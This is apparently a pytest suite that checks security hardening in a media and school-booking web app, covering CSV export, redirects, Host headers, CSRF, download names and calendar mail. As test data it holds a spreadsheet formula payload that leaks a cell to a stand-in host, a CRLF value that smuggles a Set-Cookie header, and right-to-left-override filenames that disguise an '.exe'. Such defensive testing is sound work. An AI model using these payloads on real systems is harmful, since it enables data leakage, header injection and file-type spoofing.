"""The smaller trust holes, each reproduced as the probe found it.

CSV formulas in every column, the licence flag, deeply nested JSON, CR/LF in ``next=``, forged
``Host`` headers, CSRF with an empty bearer, downloads of unpublished assets through the page,
bidi characters in download names, 416 without Content-Range, 8-bit mail without 8BITMIME,
and the .ics of cancellations and moves.
"""

from __future__ import annotations

import csv
import email
import io
import uuid
from datetime import timedelta
from email import policy
from urllib.parse import parse_qs, unquote, urlsplit

import icalendar
import pytest
from sqlalchemy import func, select

from koin_media.accounts.services import create_token
from koin_media.assets.downloads import download_filename
from koin_media.assets.models import Asset, AssetDownload
from koin_media.booking import services as booking_services
from koin_media.booking.exports import spreadsheet_cell
from koin_media.extensions import db
from koin_media.localtime import LOCAL
from koin_media.notifications import jobs, outbox
from koin_media.notifications.models import OutboxMessage
from koin_media.storage import get_storage
from koin_media.storage.base import safe_filename

from .booking_helpers import group_request, make_program, make_slot, make_venue, request_fields, school_user
from .conftest import PASSWORD, Auth, csrf_token

JPEG = b"\xff\xd8\xff\xe0" + b"0" * 2000


def stored_asset(owner, status="approved", title="Kopi Sembalun", filename="kopi.jpg") -> Asset:
    """An asset with its original in the app's store, in the given state."""
    asset = Asset(
        uuid=uuid.uuid4().hex,
        owner=owner,
        community=owner.community,
        original_filename=filename,
        status=status,
        kind="image",
        mime="image/jpeg",
        size_bytes=len(JPEG),
        title=title,
        license="CC-BY-4.0",
        consent=True,
    )
    asset.storage_key = f"assets/{asset.uuid}/original"
    db.session.add(asset)
    db.session.commit()
    get_storage().put(asset.storage_key, JPEG, "image/jpeg")
    return asset


def bearer(user) -> dict:
    _token, plain = create_token(user, "tests")
    return {"Authorization": f"Bearer {plain}"}


# -- 1. CSV export: formulas escaped in every column, a BOM for Excel -------------------------


@pytest.mark.parametrize(
    ("value", "phone", "expected"),
    [
        ('+62+HYPERLINK("http://evil.example","x")', False, '\'+62+HYPERLINK("http://evil.example","x")'),
        ('+62+HYPERLINK("http://evil.example","x")', True, '\'+62+HYPERLINK("http://evil.example","x")'),
        ("+6281234567890", True, "+6281234567890"),  # the phone column keeps a plain phone
        ("+6281234567890", False, "'+6281234567890"),  # nowhere else
        ("=1+1", False, "'=1+1"),
        ("＝1+1", False, "'＝1+1"),  # fullwidth equals sign
        ("＋1+1", False, "'＋1+1"),
        ("－1+1", False, "'－1+1"),
        ("＠SUM(A1)", False, "'＠SUM(A1)"),
        ("|calc!A1", False, "'|calc!A1"),
        ("  =1+1", False, "'  =1+1"),  # spreadsheets skip leading blanks
        ("\t=1+1", False, "'\t=1+1"),
        ("\r=1+1", False, "'\r=1+1"),
        ("\tBaiq", False, "'\tBaiq"),
        ("Baiq Nurul Aini", False, "Baiq Nurul Aini"),
        ("Lalu Muhammad Zainul Majdi", True, "Lalu Muhammad Zainul Majdi"),
        (30, False, "30"),
        (None, False, ""),
    ],
)
def test_spreadsheet_cell_escapes_formulas(value, phone, expected):
    assert spreadsheet_cell(value, phone) == expected


def test_csv_export_escapes_a_formula_in_the_contact_name(client, auth, slot, manager, school):
    hostile = '+62+HYPERLINK("http://evil.example/?leak="&A2,"Klik")'
    booking_services.book_slot(school, slot.id, group_request(contact_name=hostile))
    auth.login(manager)
    day = slot.starts_at.astimezone(LOCAL).date().isoformat()
    response = client.get(f"/manage/bookings.csv?from={day}&to={day}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel shows Indonesian names
    [row] = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert row["contact_name"] == "'" + hostile
    assert row["contact_phone"] == "+6281234567890"
    assert row["school"] == school.school.name


# -- 2. the licence flag of the download API is JSON true, nothing else -----------------------


@pytest.mark.parametrize("value", ["no", 0, "off", "false", "yes", 1, "true", "y", None, False, [True], {"ok": True}])
def test_download_api_takes_only_json_true_as_accepting_the_licence(client, factory, value):
    asset = stored_asset(factory.user("creator"))
    headers = bearer(factory.user("ikm"))
    body = {"variant": "original", "accept_license": value}
    response = client.post(f"/api/v1/assets/{asset.id}/download", json=body, headers=headers)
    assert response.status_code == 422
    assert response.get_json()["errors"]["accept_license"] == ["Setujui lisensinya untuk mengunduh."]
    assert db.session.scalar(select(func.count()).select_from(AssetDownload)) == 0
    accepted = client.post(
        f"/api/v1/assets/{asset.id}/download", json={**body, "accept_license": True}, headers=headers
    )
    assert accepted.status_code == 200 and accepted.get_json()["url"]


@pytest.mark.parametrize("value", ["no", 0, "off"])
def test_booking_api_takes_only_json_true_as_consent(client, slot, school, value):
    body = {"slot_id": slot.id, **request_fields(consent=value)}
    response = client.post("/api/v1/bookings", json=body, headers=bearer(school))
    assert response.status_code == 422 and "consent" in response.get_json()["errors"]


# -- 3. deeply nested JSON is a 400 with a message --------------------------------------------


@pytest.mark.parametrize("path", ["/api/v1/auth/token", "/api/v1/auth/register"])
def test_deeply_nested_json_is_a_400(client, path):
    response = client.post(path, data="[" * 100_000, content_type="application/json")
    assert response.status_code == 400
    body = response.get_json()
    assert body["error"] == "bad_request" and body["message"]


def test_deeply_nested_json_to_the_login_form_is_a_4xx(client):
    headers = {"X-CSRFToken": csrf_token(client, "/login")}
    response = client.post("/login", data="[" * 100_000, content_type="application/json", headers=headers)
    assert 400 <= response.status_code < 500


# -- 4. control characters in next= after log-in ----------------------------------------------


@pytest.mark.parametrize(
    "target",
    ["/assets\r\nSet-Cookie: x=1", "/assets\nX", "/assets\rX", "/assets\tX", "/assets\x00", "/a\u2028b", "/\u202egnp"],
)
def test_control_characters_in_next_are_ignored_after_log_in(client, factory, target):
    user = factory.user("ikm")
    token = csrf_token(client, "/login")
    response = client.post(
        "/login", query_string={"next": target}, data={"email": user.email, "password": PASSWORD, "csrf_token": token}
    )
    assert response.status_code == 302
    assert response.headers["Location"] == "/assets"  # the business's own landing page, not the target


def test_a_plain_next_is_still_followed(client, factory):
    user = factory.user("ikm")
    token = csrf_token(client, "/login")
    response = client.post(
        "/login",
        query_string={"next": "/assets?q=kopi"},
        data={"email": user.email, "password": PASSWORD, "csrf_token": token},
    )
    assert response.headers["Location"] == "/assets?q=kopi"


# -- 5. no link is ever built from a forged Host header ---------------------------------------


@pytest.mark.parametrize("path", ["/", "/login", "/assets", "/api/v1/assets", "/api/v1/venues", "/healthz"])
@pytest.mark.parametrize("forged", [{"Host": "evil.example"}, {"Host": "evil.example:8000"}])
def test_a_forged_host_is_refused(client, factory, path, forged):
    stored_asset(factory.user("creator"))
    response = client.get(path, headers=forged)
    assert response.status_code == 400
    assert "evil.example" not in response.get_data(as_text=True)
    assert "evil.example" not in str(response.headers)


def test_a_forged_forwarded_host_is_refused_behind_a_proxy(make_app, factory):
    app = make_app(TRUSTED_PROXIES=1)
    with app.app_context():
        asset = stored_asset(factory.user("creator"))
        headers = {**bearer(factory.user("ikm")), "X-Forwarded-Host": "evil.example"}
        body = {"accept_license": True}
        response = app.test_client().post(f"/api/v1/assets/{asset.id}/download", json=body, headers=headers)
        assert response.status_code == 400 and response.get_json()["error"] == "untrusted_host"
        assert db.session.scalar(select(func.count()).select_from(AssetDownload)) == 0


def test_links_use_a_trusted_host(make_app, factory):
    app = make_app(TRUSTED_HOSTS=["media.koin.test", "localhost"])
    with app.app_context():
        asset = stored_asset(factory.user("creator"))
        client = app.test_client()
        listed = client.get("/api/v1/assets", headers={"Host": "media.koin.test"}).get_json()
        assert listed["items"][0]["url"] == f"http://media.koin.test/assets/{asset.id}"
        body = {"accept_license": True}
        headers = {**bearer(factory.user("ikm")), "Host": "media.koin.test"}
        link = client.post(f"/api/v1/assets/{asset.id}/download", json=body, headers=headers).get_json()["url"]
        assert link.startswith("http://media.koin.test/media/file/")
        assert client.get("/api/v1/assets", headers={"Host": "koin.test.evil.example"}).status_code == 400


# -- 6. CSRF is skipped only for a bearer token that authenticates ----------------------------


BOGUS_BEARERS = ["Bearer", "Bearer ", "bearer   ", "Bearer koin_bogus", "Bearer not-a-token"]


@pytest.mark.parametrize("authorization", BOGUS_BEARERS)
def test_a_bogus_bearer_with_a_session_cookie_goes_through_csrf(client, auth, school, slot, authorization):
    auth.login(school)
    headers = {"Authorization": authorization}
    api = client.post("/api/v1/bookings", json={"slot_id": slot.id, **request_fields()}, headers=headers)
    assert api.status_code == 400 and api.get_json()["error"] == "csrf_failed"
    page = client.post("/language", data={"locale": "en"}, headers=headers)
    assert page.status_code == 400
    # With the page's CSRF token the cookie still does not sign the request in: the bearer
    # credential it presents is judged alone, and it is not valid.
    headers["X-CSRFToken"] = csrf_token(client, "/")
    signed = client.post("/api/v1/bookings", json={"slot_id": slot.id, **request_fields()}, headers=headers)
    assert signed.status_code == 401
    assert db.session.scalar(select(func.count()).select_from(OutboxMessage)) == 0  # nothing was booked


def test_a_real_bearer_token_needs_no_csrf_even_with_a_cookie(client, auth, school, slot):
    auth.login(school)
    response = client.post("/api/v1/bookings", json={"slot_id": slot.id, **request_fields()}, headers=bearer(school))
    assert response.status_code == 201


# -- 7. the HTML download refuses unpublished assets, as the API does -------------------------


@pytest.mark.parametrize("status", ["rejected", "pending_review", "draft", "archived"])
@pytest.mark.parametrize("who", ["owner", "staff"])
def test_unpublished_assets_are_not_downloaded_through_the_page_nor_the_api(app, factory, status, who):
    owner = factory.user("creator")
    asset = stored_asset(owner, status=status)
    user = owner if who == "owner" else factory.user("staff")
    client = app.test_client()
    Auth(client).login(user)
    page = f"/assets/{asset.id}"
    data = {"variant": "original", "accept_license": "y", "purpose": "print", "csrf_token": csrf_token(client, page)}
    response = client.post(f"{page}/download", data=data)
    assert response.status_code == 303 and response.headers["Location"].endswith(page)
    shown = client.get(page).get_data(as_text=True)
    assert "Hanya aset yang sudah terbit yang dapat diunduh." in shown
    api = client.post(f"/api/v1/assets/{asset.id}/download", json={"accept_license": True}, headers=bearer(user))
    assert api.status_code == 409 and api.get_json()["message"] == "Hanya aset yang sudah terbit yang dapat diunduh."
    db.session.refresh(asset)
    assert asset.download_count == 0
    assert db.session.scalar(select(func.count()).select_from(AssetDownload)) == 0


# -- 8. bidi, line separators and controls leave download names -------------------------------

UNSAFE = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f"]
UNSAFE += ["\u061c", "\u2028", "\u2029", "\x00", "\n", "\r", "\x1b", "\x7f", "\u0085"]


@pytest.mark.parametrize("char", UNSAFE)
def test_safe_filename_removes_bidi_separators_and_controls(char):
    assert safe_filename(f"Tenun{char}gpj.exe") == "Tenun gpj.exe"
    assert safe_filename(f"{char}Kain Sasak.jpg") == "Kain Sasak.jpg"


@pytest.mark.parametrize("backend", ["local", "s3"])
def test_download_names_carry_no_bidi_or_separator_characters(make_app, storage_settings, factory, backend):
    app = make_app(**storage_settings(backend))
    with app.app_context():
        asset = stored_asset(
            factory.user("creator"), title="Kain \u202egpj.exe\u202c Sasak\u2028baru", filename="x.jpg"
        )
        name = download_filename(asset, "original")
        assert name == "Kain gpj.exe Sasak baru.jpg"
        url, _expires = get_storage().download_url(asset.storage_key, "Kain \u202egpj.exe\u2029.jpg", "image/jpeg")
        if backend == "s3":
            disposition = parse_qs(urlsplit(url).query)["response-content-disposition"][0]
        else:
            with app.test_client().get(urlsplit(url).path) as response:
                disposition = response.headers["Content-Disposition"]
        decoded = unquote(disposition)
        assert not any(char in decoded for char in UNSAFE)
        assert "Kain gpj.exe .jpg" in decoded


# -- 9. a 416 says how long the file is -------------------------------------------------------


def test_a_range_beyond_the_end_is_a_416_with_content_range(app):
    get_storage().put("assets/abc/original", JPEG, "image/jpeg")
    url, _expires = get_storage().download_url("assets/abc/original", "Kopi.jpg", "image/jpeg")
    client = app.test_client()
    response = client.get(urlsplit(url).path, headers={"Range": f"bytes={len(JPEG) + 10}-"})
    assert response.status_code == 416
    assert response.headers["Content-Range"] == f"bytes */{len(JPEG)}"
    with client.get(urlsplit(url).path, headers={"Range": "bytes=0-3"}) as ranged:
        assert ranged.status_code == 206 and ranged.headers["Content-Range"] == f"bytes 0-3/{len(JPEG)}"


# -- 10. 8-bit mail: BODY=8BITMIME when offered, encoded otherwise ----------------------------

INDONESIAN = "Kunjungan ke Sirkuit Mandalika — dikonfirmasi ✓. Terima kasih, Bapak/Ibu Guru.\n"


@pytest.mark.parametrize("offers_8bitmime", [True, False])
def test_eight_bit_mail_follows_rfc_6152(make_app, factory, smtp_sink, offers_8bitmime):
    smtp_sink.offers_8bitmime = offers_8bitmime
    app = make_app(MAIL_SMTP_HOST="127.0.0.1", MAIL_SMTP_PORT=smtp_sink.port, MAIL_SMTP_TLS=False)
    with app.app_context():
        user = factory.user("school", email="guru@sekolah.test")
        outbox.add("reminder", user, "Pengingat kunjungan — Mandalika", INDONESIAN, attachment_ics=None)
        db.session.commit()
        assert jobs.deliver_pending() == {"sent": 1, "failed": 0}
    [command] = smtp_sink.mail_commands
    [(_sender, recipients, raw)] = smtp_sink.messages
    assert recipients == ["guru@sekolah.test"]
    if offers_8bitmime:
        assert "BODY=8BITMIME" in command.upper()
        assert INDONESIAN.encode("utf-8").rstrip() in raw  # sent as it is
    else:
        assert "8BITMIME" not in command.upper()
        assert raw.isascii()  # every byte 7-bit: the body is encoded
    message = email.message_from_bytes(raw, policy=policy.default)
    assert message.get_content().replace("\r\n", "\n") == INDONESIAN
    assert str(message["Subject"]) == "Pengingat kunjungan — Mandalika"


# -- 11. cancellations and moves update the school's calendar ---------------------------------


def calendar_of(message: OutboxMessage):
    calendar = icalendar.Calendar.from_ical(message.attachment_ics)
    [event] = calendar.walk("VEVENT")
    return str(calendar["METHOD"]), event


def test_confirm_move_and_cancel_send_request_request_and_cancel(app, factory):
    venue = make_venue()
    manager = factory.user("venue_manager")
    venue.managers.append(manager)
    db.session.commit()
    program = make_program(venue)
    slot, later = make_slot(program, capacity=40), make_slot(program, starts_in=timedelta(days=9), capacity=40)
    teacher = school_user()
    booking = booking_services.book_slot(teacher, slot.id, group_request())
    booking_services.confirm(booking, manager)
    booking_services.move(booking, later, manager)
    booking_services.cancel(booking, manager, "Sirkuit dipakai balapan")

    def to_teacher(kind):
        return db.session.scalar(
            select(OutboxMessage).where(OutboxMessage.kind == kind, OutboxMessage.to_address == teacher.email)
        )

    confirmed, moved, cancelled = (to_teacher(kind) for kind in ("confirmed", "moved", "cancelled"))
    method, first = calendar_of(confirmed)
    assert method == "REQUEST" and str(first["STATUS"]) == "CONFIRMED"
    method, second = calendar_of(moved)
    assert method == "REQUEST" and str(second["STATUS"]) == "CONFIRMED"
    assert second.decoded("DTSTART") == later.starts_at
    method, third = calendar_of(cancelled)
    assert method == "CANCEL" and str(third["STATUS"]) == "CANCELLED"
    assert str(first["UID"]) == str(second["UID"]) == str(third["UID"]) == f"{booking.code}@koin-media"
    assert int(first["SEQUENCE"]) < int(second["SEQUENCE"]) < int(third["SEQUENCE"])
    for event in (first, second, third):
        assert str(event["ORGANIZER"]) == "mailto:noreply@koin-media.id"
        assert str(event["ATTENDEE"]) == f"mailto:{teacher.email}"
    # The MIME type repeats the method (RFC 6047), so mail programs offer "remove from calendar".
    [part] = outbox.build_email(cancelled).iter_attachments()
    assert part.get_content_type() == "text/calendar" and part.get_param("method") == "CANCEL"


def test_cancelling_a_request_never_confirmed_sends_no_calendar(app, factory):
    venue = make_venue()
    program = make_program(venue)
    slot = make_slot(program, capacity=40)
    teacher = school_user()
    booking = booking_services.book_slot(teacher, slot.id, group_request())
    booking_services.cancel(booking, teacher)
    message = db.session.scalar(
        select(OutboxMessage).where(OutboxMessage.kind == "cancelled", OutboxMessage.to_address == teacher.email)
    )
    assert message is not None and message.attachment_ics is None
